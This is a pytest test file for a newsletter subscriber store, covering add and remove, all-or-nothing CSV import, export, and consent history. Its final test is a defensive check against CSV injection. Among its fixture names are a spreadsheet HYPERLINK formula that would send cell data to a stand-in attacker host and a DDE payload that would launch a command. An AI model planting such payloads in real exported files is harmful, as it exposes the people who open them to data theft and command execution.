"""Subscribers on real databases: add, remove, import all-or-nothing, export, consent history."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa

from syndicator.errors import UsageError
from syndicator.state import subscribers as store
from syndicator.state.db import upgrade
from syndicator.state.schema import consent_events, subscribers
from syndicator.subscribers import operator
from syndicator.subscribers.rules import build


def test_add_list_remove_keeps_history(state: sa.Engine) -> None:
    s = operator.add(state, "VanThu@SoNoiVu.example", "Văn thư Sở", "daily",
                    ["Chuyển đổi số"], "large")
    assert (s.status, s.text_size, s.categories) == ("active", "large", ("Chuyển đổi số",))
    with pytest.raises(UsageError, match="already subscribed"):
        operator.add(state, "vanthu@sonoivu.EXAMPLE", "", "weekly", [], "standard")
    removed = operator.remove(state, "VANTHU@sonoivu.example")
    assert removed.status == "unsubscribed" and removed.unsubscribed_at is not None
    with state.connect() as conn:
        events = [h["event"] for h in store.history(conn, s.id)]
    assert events == ["subscribed", "unsubscribed"]
    again = operator.add(state, "vanthu@sonoivu.example", "Văn thư Sở", "weekly", [], "standard")
    assert again.id == s.id and again.status == "active" and again.frequency == "weekly"


def test_remove_unknown_address_is_a_usage_error(state: sa.Engine) -> None:
    with pytest.raises(UsageError, match="no subscriber"):
        operator.remove(state, "ai@do.example")


def test_import_with_bad_rows_imports_nothing_and_names_lines(state: sa.Engine) -> None:
    csv_text = ("email,name,frequency,categories,text_size\n"
                "a@so.example,Sở A,daily,,standard\n"
                "not-an-address,Sở B,daily,,standard\n"
                "c@so.example,Sở C,hourly,,standard\n"
                "A@SO.example,Sở A lần 2,weekly,,large\n"
                "e@so.example,Sở E,weekly,,tiny\n")
    with pytest.raises(UsageError) as info:
        operator.import_csv(state, csv_text)
    message = str(info.value)
    for expected in ("line 3: email", "line 4: frequency", "line 5: A@so.example repeats line 2",
                     "line 6: text_size"):
        assert expected in message
    with state.connect() as conn:
        assert conn.scalar(sa.select(sa.func.count()).select_from(subscribers)) == 0


def test_import_then_export_round_trip(state: sa.Engine) -> None:
    csv_text = ("\ufeffemail,name,frequency,categories,text_size\n"
                "a@so.example,\"Phòng Nội vụ, huyện Ba Bể\",immediate,Thi đua;Chuyển đổi số,"
                "large\n"
                "b@so.example,,weekly,,\n")
    report = operator.import_csv(state, csv_text)
    assert (report.created, report.updated) == (2, 0)
    assert operator.import_csv(state, csv_text).updated == 2  # idempotent: updates
    out = io.StringIO()
    operator.export_csv(state, out)
    lines = out.getvalue().splitlines()
    assert lines[0] == "email,name,frequency,categories,text_size"  # the contract's columns
    assert lines[1] == ('a@so.example,"Phòng Nội vụ, huyện Ba Bể",immediate,'
                        'Thi đua;Chuyển đổi số,large')
    assert lines[2] == "b@so.example,,weekly,,standard"
    with state.connect() as conn:
        sources = set(conn.scalars(sa.select(consent_events.c.source)))
    assert sources == {"import"}


def test_an_export_imported_elsewhere_subscribes_only_who_consented(
        state: sa.Engine, tmp_path: Path) -> None:
    operator.add(state, "a@so.example", "A", "daily", [], "standard")
    operator.add(state, "b@so.example", "B", "weekly", [], "large")
    operator.remove(state, "b@so.example")
    with state.begin() as conn:
        store.insert(conn, build("c@so.example", "C", "daily", [], "standard", []),
                     status="pending", source="form", now=datetime.now(UTC), detail={})
    plain, full = io.StringIO(), io.StringIO()
    assert operator.export_csv(state, plain) == 1
    assert operator.export_csv(state, full, everyone=True) == 3
    assert plain.getvalue().splitlines() == ["email,name,frequency,categories,text_size",
                                             "a@so.example,A,daily,,standard"]
    assert full.getvalue().splitlines()[0] == "email,name,frequency,categories,text_size,status"
    elsewhere = sa.create_engine(f"sqlite:///{tmp_path / 'elsewhere.db'}")
    upgrade(elsewhere)
    for text in (plain.getvalue(), full.getvalue()):
        report = operator.import_csv(elsewhere, text)
    assert report.created == 0 and report.updated == 1  # the second file: a again
    assert [n.split(":")[0] for n in report.skipped] == ["line 3", "line 4"]
    assert {s.email: s.status for s in operator.list_all(elsewhere)} == {"a@so.example": "active"}


def test_add_activates_a_pending_address(state: sa.Engine) -> None:
    with state.begin() as conn:
        store.insert(conn, build("p@so.example", "P", "daily", [], "standard", []),
                     status="pending", source="form", now=datetime.now(UTC), detail={})
    s = operator.add(state, "P@so.example", "Phòng P", "weekly", [], "large")
    assert (s.status, s.frequency, s.text_size, s.name) == ("active", "weekly", "large", "Phòng P")
    with state.connect() as conn:
        events = [e["event"] for e in store.history(conn, s.id)]
    assert events[-1] == "activated"


def test_import_does_not_resubscribe_the_unsubscribed(state: sa.Engine) -> None:
    operator.add(state, "a@so.example", "", "daily", [], "standard")
    operator.remove(state, "a@so.example")
    report = operator.import_csv(state, "email\na@so.example\n")
    assert report.created == 0 and "unsubscribed" in report.skipped[0]
    with state.connect() as conn:
        assert store.get_by_email(conn, "a@so.example").status == "unsubscribed"


def test_bad_header_is_refused(state: sa.Engine) -> None:
    with pytest.raises(UsageError, match="CSV header"):
        operator.import_csv(state, "mail,ten\nx@y.example,z\n")


def test_email_unique_case_insensitively_in_the_database(state: sa.Engine) -> None:
    operator.add(state, "a@so.example", "", "daily", [], "standard")
    with pytest.raises(sa.exc.IntegrityError):
        with state.begin() as conn:
            conn.execute(subscribers.insert().values(
                email="A@so.example", email_key="a@so.example", frequency="daily",
                categories=[], status="active", consent_source="x",
                created_at=sa.func.now(), updated_at=sa.func.now()))


def test_export_neutralises_formulas_and_import_gives_them_back(sqlite_url: str,
                                                                tmp_path: Path) -> None:
    """A name from the public form that a spreadsheet would run (OWASP CSV injection)."""
    engine = sa.create_engine(sqlite_url)
    upgrade(engine)
    names = {"a@so.example": '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào")',
             "b@so.example": "@SUM(1+1)*cmd|' /C calc'!A0", "c@so.example": "-2+3",
             "d@so.example": "'=giữ nguyên", "e@so.example": "Văn phòng UBND"}
    for address, name in names.items():
        operator.add(engine, address, name, "daily", [], "standard")
    out = io.StringIO()
    operator.export_csv(engine, out)
    cells = [line.split(",", 2)[1] for line in out.getvalue().splitlines()[1:]]
    assert all(not c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), cells
    elsewhere = sa.create_engine(f"sqlite:///{tmp_path / 'elsewhere.db'}")
    upgrade(elsewhere)
    assert operator.import_csv(elsewhere, out.getvalue()).created == 5
    assert {s.email: s.name for s in operator.list_all(elsewhere)} == names
